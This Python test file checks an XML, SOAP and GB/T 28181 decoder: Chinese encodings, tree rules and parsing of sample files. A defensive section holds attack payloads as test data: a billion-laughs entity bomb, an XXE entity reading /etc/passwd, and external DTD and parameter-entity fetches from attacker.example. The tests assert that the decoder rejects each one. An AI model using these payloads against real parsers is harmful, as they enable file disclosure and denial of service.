"""XML and GB/T 28181 codecs: the generic tree, declared encodings, and hostile documents."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from connectors.codecs import decode
from gateway.errors import PayloadError

SAMPLES = Path(__file__).resolve().parents[2] / "config" / "samples"


def _error(fmt: str, data: bytes, **kwargs: Any) -> PayloadError:
    with pytest.raises(PayloadError) as caught:
        decode(fmt, data, **kwargs)
    return caught.value


def test_gbk_batch_xml_sample() -> None:
    tree = decode("xml", (SAMPLES / "batch-files" / "11330106002500121C_XZCF_20250620_001.xml").read_bytes())
    assert tree["Header"]["ProviderName"] == "杭州市西湖区示例市场监督管理局"
    assert tree["Header"]["RecordCount"] == "3"
    records = tree["Records"]["Record"]
    assert isinstance(records, list) and len(records) == 3
    assert records[0]["XDRMC"] == "杭州示例餐饮管理有限公司"
    assert records[0]["CFJDSWH"] == "杭西市监罚〔2025〕118号"
    assert records[0]["FKJE"] == "5000.00"
    assert records[0]["ZJLX"] == ""  # an empty element is ""


def test_attributes_namespaces_and_repeated_elements() -> None:
    tree = decode("xml", (SAMPLES / "credit-publication" / "outbound-response-cf.xml").read_bytes())
    assert tree["@version"] == "2.0"
    results = tree["Body"]["result"]
    assert [r["@seq"] for r in results] == ["1", "2", "3"]
    assert results[2]["status"] == "rejected"
    assert results[2]["field"] == "CF_WSH"


def test_leaf_with_attributes_keeps_its_text() -> None:
    tree = decode("xml", (SAMPLES / "ministry-soap" / "query-inspections-request.xml").read_bytes())
    password = tree["Header"]["Security"]["UsernameToken"]["Password"]
    assert password["#text"] == "Sgw#2025demo"
    assert password["@Type"].endswith("#PasswordText")
    assert tree["Body"]["QueryInspections"]["pageSize"] == "3"


def test_schema_instance_attributes_are_not_data() -> None:
    # xsi:nil="true" is an absent element (a JAX-WS stack's unset optional one), xsi:type is dropped;
    # an attribute of another namespace that happens to be called "type" or "nil" is data.
    xsi = "http://www.w3.org/2001/XMLSchema-instance"
    data = (f'<r xmlns:xsi="{xsi}" xmlns:o="urn:other"><a xsi:nil="true"/><a2 xsi:nil="1">x</a2>'
            '<b xsi:type="xs:string">t</b><c type="keep" o:nil="true">v</c><d xsi:nil="false">x</d>'
            '<e><f xsi:nil="true"/></e><g xsi:nil="true"/><g>2</g></r>').encode()
    assert decode("xml", data) == {"b": "t", "c": {"@type": "keep", "@nil": "true", "#text": "v"}, "d": "x",
                                   "e": "", "g": "2"}


def test_generic_tree_rules() -> None:
    data = (
        b'<?xml version="1.0"?><!-- c --><?pi data?>'
        b'<r xmlns="urn:a" xmlns:b="urn:b"><b:x>1</b:x><y/><x>2</x><z b:k="v"/><t> keep </t></r>'
    )
    assert decode("xml", data) == {"x": ["1", "2"], "y": "", "z": {"@k": "v"}, "t": " keep "}


def test_gb2312_declared_notify_with_gbk_only_characters() -> None:
    # 镕 and 堃 are GBK but not GB2312; devices declare GB2312 and write them anyway.
    body = (
        '<?xml version="1.0" encoding="GB2312"?>\r\n'
        "<Notify><CmdType>Alarm</CmdType><AlarmDescription>朱镕堃</AlarmDescription></Notify>"
    )
    tree = decode("gb28181", body.encode("gbk"))
    assert tree == {"CmdType": "Alarm", "AlarmDescription": "朱镕堃"}


def test_undeclared_gbk_falls_back_to_gb18030() -> None:
    assert decode("xml", "<a>中文</a>".encode("gbk")) == "中文"


def test_declared_encoding_that_does_not_match_is_refused() -> None:
    data = '<?xml version="1.0" encoding="UTF-8"?><a>中文</a>'.encode("gbk")
    assert _error("xml", data).code == "ENCODING"


def test_declared_non_text_codec_is_refused() -> None:
    assert _error("xml", b'<?xml version="1.0" encoding="zlib"?><a/>').code == "ENCODING"


def test_utf16_with_bom() -> None:
    assert decode("xml", '<?xml version="1.0" encoding="UTF-16"?><a>中</a>'.encode("utf-16")) == "中"


def test_gb28181_samples() -> None:
    helmet = decode("gb28181", (SAMPLES / "video-ai" / "alarm-notify-no-helmet.xml").read_bytes())
    assert helmet["DeviceID"] == "33012200001320000044"
    assert helmet["AlarmMethod"] == "5"
    assert helmet["AlarmTime"] == "2025-06-12T14:05:33"
    assert helmet["AlarmDescription"] == "[no_helmet]塔吊作业区人员未戴安全帽"
    assert helmet["Info"] == {"AlarmType": "6"}
    loss = decode("gb28181", (SAMPLES / "video-ai" / "alarm-notify-video-loss.xml").read_bytes())
    assert loss["AlarmDescription"] == "视频丢失"
    assert "Longitude" not in loss


def test_gb28181_wrong_root_is_malformed() -> None:
    assert _error("gb28181", b"<Response><CmdType>Catalog</CmdType></Response>").code == "MALFORMED"


# --- hostile and broken documents ----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">
<foo>1</foo>"""

PLAIN_DTD = b"""<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo (#PCDATA)>]><foo>1</foo>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><foo/>"""


@pytest.mark.parametrize("fmt", ["xml", "soap", "gb28181"])
@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PLAIN_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_forbidden(fmt: str, payload: bytes) -> None:
    assert _error(fmt, payload).code == "XML_FORBIDDEN"


def test_soap_envelope_with_entity_is_forbidden() -> None:
    data = b"""<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x "boom">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><r>&x;</r></soap:Body></soap:Envelope>"""
    assert _error("soap", data).code == "XML_FORBIDDEN"


def test_deep_nesting_is_refused_at_the_limit() -> None:
    depth = 50
    data = b"<a>" * depth + b"x" + b"</a>" * depth
    assert isinstance(decode("xml", data, xml_max_depth=depth), dict)
    assert _error("xml", data, xml_max_depth=depth - 1).code == "XML_FORBIDDEN"


def test_very_deep_nesting_does_not_crash() -> None:
    data = b"<a>" * 200_000 + b"</a>" * 200_000
    assert _error("xml", data).code == "XML_FORBIDDEN"


def test_malformed_xml_has_line_and_column() -> None:
    error = _error("xml", b"<a>\n  <b>\n</a>")
    assert error.code == "MALFORMED"
    assert error.location == "line 3, column 2"


def test_undefined_entity_is_malformed() -> None:
    assert _error("xml", b"<a>&nope;</a>").code == "MALFORMED"


def test_empty_document_is_malformed() -> None:
    assert _error("xml", b"").code == "MALFORMED"
    assert _error("xml", b"   ").code == "MALFORMED"


def test_binary_garbage_is_refused() -> None:
    assert _error("xml", bytes(range(256)) * 4).code in {"ENCODING", "MALFORMED"}


def test_oversized_xml() -> None:
    assert _error("xml", b"<a>" + b"x" * 2000 + b"</a>", max_bytes=1000).code == "PAYLOAD_TOO_LARGE"
